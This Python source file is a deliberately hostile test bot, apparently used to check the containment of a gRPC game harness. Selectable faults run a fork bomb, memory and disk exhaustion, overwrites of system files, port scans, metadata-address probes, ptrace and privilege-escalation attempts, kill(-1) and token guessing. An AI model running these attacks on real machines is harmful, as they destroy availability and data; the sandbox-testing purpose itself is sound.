"""A bot that attacks the machine it runs on and whoever else is there, and says on stderr how far it got.

FAULT names what it does. Apart from that it plays the first legal action.
"""

import contextlib
import ctypes
import os
import queue
import signal
import socket
import stat
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NoReturn

import grpc

from harness.wire.arena_pb2 import Action, Actions, Batch, BotMessage, HarnessMessage, Hello

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, CLONE_NEWUSER, CLONE_NEWNS = 16, 0x10000000, 0x00020000
OUTSIDE = ("8.8.8.8", "10.0.0.1", "172.17.0.1", "192.168.1.1", "169.254.169.254")
ATTACK_AT = 2  # the decision at which attacks in play begin


def say(what: str, outcome: object) -> None:
    os.write(2, f"{what}: {outcome}\n".encode())


def attempt(what: str, deed: Callable[[], object]) -> None:
    """Do it, and say whether that was allowed."""
    try:
        deed()
    except OSError as error:
        say(what, f"refused, {os.strerror(error.errno) if error.errno else error}")
    else:
        say(what, "done")


def call(name: str, *arguments: Any) -> None:
    """A function of the C library, that is a system call."""
    if getattr(LIBC, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), name)


def sleep_for_ever() -> NoReturn:
    while True:
        time.sleep(3600)


def fork_bomb() -> None:
    """Here and in every child."""
    said = False
    while True:
        try:
            os.fork()
        except OSError as error:
            if not said:
                said = True
                say("fork", f"refused, {error.strerror}")


def hog_memory() -> None:
    hoard = []
    while True:
        hoard.append(b"x" * (1 << 20))


def fill_tmp() -> None:
    written = 0
    try:
        with open("/tmp/full", "wb", buffering=0) as file:  # noqa: PTH123
            while True:
                written += file.write(b"x" * (1 << 16))
    except OSError as error:
        say("tmp", f"refused, {os.strerror(error.errno or 0)}, after {written} bytes")
    Path("/tmp/full").unlink()
    program = Path("/tmp/program")
    program.write_bytes(Path("/bin/sh").read_bytes())
    program.chmod(0o755)
    attempt("exec in /tmp", lambda: os.execv(program, ["program", "-c", "exit 42"]))


def write_everywhere() -> None:
    folders = ("/", "/bot", "/etc", "/run/harness", "/usr/local/bin", "/var/tmp", "/dev", "/dev/shm", "/sys/fs/cgroup")
    for folder in folders:
        attempt(f"write {folder}", Path(folder, "evil").touch)
    for file in ("/etc/passwd", "/etc/hosts", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/bot/hostile.py"):
        attempt(f"overwrite {file}", lambda file=file: os.open(file, os.O_WRONLY))  # type: ignore[misc]
    attempt("unlink the door", Path("/run/harness/arena.sock").unlink)


def use_network() -> None:
    say("interfaces", sorted(path.name for path in Path("/sys/class/net").iterdir()))
    open_ports = [port for port in range(1, 65536) if answers("127.0.0.1", port)]
    say("ports of 127.0.0.1 that answer", open_ports)
    for address in OUTSIDE:
        attempt(f"connect {address}", lambda address=address: socket.create_connection((address, 80), 1))  # type: ignore[misc]
    attempt("look up example.com", lambda: socket.getaddrinfo("example.com", 80))


def answers(address: str, port: int) -> bool:
    with socket.socket() as one:
        # A socket can happen to be given the very port that it calls: then it hears itself.
        return one.connect_ex((address, port)) == 0 and one.getsockname() != one.getpeername()


def seek_other_bots() -> None:
    sockets = [
        str(Path(folder, name))
        for folder, _, names in os.walk("/")
        if not folder.startswith("/proc")
        for name in names
        if stat.S_ISSOCK(os.lstat(os.path.join(folder, name)).st_mode)  # noqa: PTH118
    ]
    say("sockets", sorted(sockets))
    say("processes", sorted(int(path.name) for path in Path("/proc").glob("[0-9]*") if foreign(path)))
    for name, token in (("own", os.environ["HARNESS_TOKEN"]), ("guessed", "0" * 32)):
        try:
            with grpc.insecure_channel(os.environ["HARNESS_ADDRESS"]) as channel:
                list(play_stream(channel)(iter(()), metadata=[("harness-token", token)]))
        except grpc.RpcError as error:
            say(f"a second stream, {name} token", error.code().name)


def foreign(process: Path) -> bool:
    """Whether a process is neither this one nor the init of its container."""
    return process.name not in {"1", str(os.getpid())} and process.exists()


def seize_kernel() -> None:
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines())
    for key in ("Uid", "CapEff", "CapBnd", "NoNewPrivs", "Seccomp"):
        say(key, status[key].split()[0])
    say("processes that can be traced", [pid for pid in range(2, 1 << 16) if can_be_traced(pid)])
    attempt("mount", lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None))
    attempt("user namespace", lambda: call("unshare", CLONE_NEWUSER))
    attempt("mount namespace", lambda: call("unshare", CLONE_NEWNS))
    attempt("become root", lambda: os.setuid(0))
    attempt("chroot", lambda: os.chroot("/tmp"))
    attempt("make a device", lambda: os.mknod("/tmp/memory", 0o666 | stat.S_IFCHR, os.makedev(1, 1)))
    attempt("raise a limit", lambda: call("setrlimit", 7, (ctypes.c_ulong * 2)(1 << 20, 1 << 20)))
    attempt("be nicer than others", lambda: os.nice(-10))
    attempt("set the clock", lambda: time.clock_settime(time.CLOCK_REALTIME, 0))
    attempt("kill the init", lambda: os.kill(1, signal.SIGKILL))  # is allowed, and does nothing
    attempt("kill everybody", lambda: os.kill(-1, signal.SIGKILL))


def can_be_traced(pid: int) -> bool:
    return bool(LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0)


def for_ever(deed: Callable[[], object]) -> None:
    """Beside the play, in a thread."""

    def repeat() -> None:
        while True:
            deed()

    threading.Thread(target=repeat, daemon=True).start()


def flood_output() -> None:
    for_ever(lambda: os.write(1, b"flood " * 10_000))
    for_ever(lambda: os.write(2, b"flood " * 10_000))


def storm_door() -> None:
    """One stream after the other, with a token that is none."""
    channel = grpc.insecure_channel(os.environ["HARNESS_ADDRESS"])

    def knock() -> None:
        with contextlib.suppress(grpc.RpcError):
            list(play_stream(channel)(iter(()), metadata=[("harness-token", "x" * 4000)]))

    for _ in range(4):
        for_ever(knock)


def leave_children() -> None:
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                ignore_signals()
                sleep_for_ever()
            os._exit(0)
    say("children", "left")
    os._exit(0)


def ignore_signals() -> None:
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)


AT_START: dict[str, Callable[[], None]] = {
    "sleeps-at-start": sleep_for_ever,
    "hogs-memory-at-start": hog_memory,
    "uses-network": use_network,
    "ignores-signals": ignore_signals,
}
IN_PLAY: dict[str, Callable[[], None]] = {
    "fork-bomb": fork_bomb,
    "hogs-memory": hog_memory,
    "fills-tmp": fill_tmp,
    "writes-everywhere": write_everywhere,
    "seeks-other-bots": seek_other_bots,
    "seizes-kernel": seize_kernel,
    "floods-output": flood_output,
    "storms-door": storm_door,
    "leaves-children": leave_children,
}
HELLOS = {
    "lies-in-hello": Hello(sdk="ann\x1b[2J<script>" * 5_000, sdk_version="\u202e9", holds=2**32 - 1, games=[]),
    "other-game": Hello(sdk="ann", games=["bismarck", "schwimmen" * 1_000]),
    "huge-hello": Hello(sdk="x" * 5_000_000),
}


def play_stream(channel: grpc.Channel) -> Any:
    return channel.stream_stream("/harness.v1.Arena/Play", BotMessage.SerializeToString, HarnessMessage.FromString)


class Play:
    """One stream from its Hello to its end."""

    def __init__(self, fault: str) -> None:
        self.fault = fault
        self.outgoing: queue.SimpleQueue[BotMessage | None] = queue.SimpleQueue()
        self.decisions = 0

    def run(self) -> None:
        with grpc.insecure_channel(os.environ["HARNESS_ADDRESS"]) as channel:
            metadata = [("harness-token", os.environ["HARNESS_TOKEN"])]
            for message in play_stream(channel)(self.messages(), metadata=metadata):
                self.answer(message.batch)

    def messages(self) -> Iterator[BotMessage]:
        yield BotMessage(hello=HELLOS.get(self.fault, Hello(sdk="hostile")))
        while (message := self.outgoing.get()) is not None:
            yield message
            while self.fault == "floods-stream" and self.decisions >= ATTACK_AT:
                yield message

    def answer(self, batch: Batch) -> None:
        asked: list[Any] = [*batch.rejections, *batch.decisions]
        self.decisions += len(asked)
        if asked and self.decisions == ATTACK_AT and self.fault in IN_PLAY:
            IN_PLAY[self.fault]()
        if asked:
            actions = [
                Action(match_id=each.match_id, decision_id=each.decision_id, action=each.legal[0]) for each in asked
            ]
            self.outgoing.put(BotMessage(actions=Actions(actions=actions)))


def main() -> None:
    fault = os.environ["FAULT"]
    if fault not in {*AT_START, *IN_PLAY, *HELLOS, "floods-stream"}:
        sys.exit(f"there is no FAULT={fault}")
    AT_START.get(fault, lambda: None)()
    try:
        Play(fault).run()
    except grpc.RpcError as error:
        say("stream", error.code().name)
    if fault == "ignores-signals":
        sleep_for_ever()


if __name__ == "__main__":
    main()
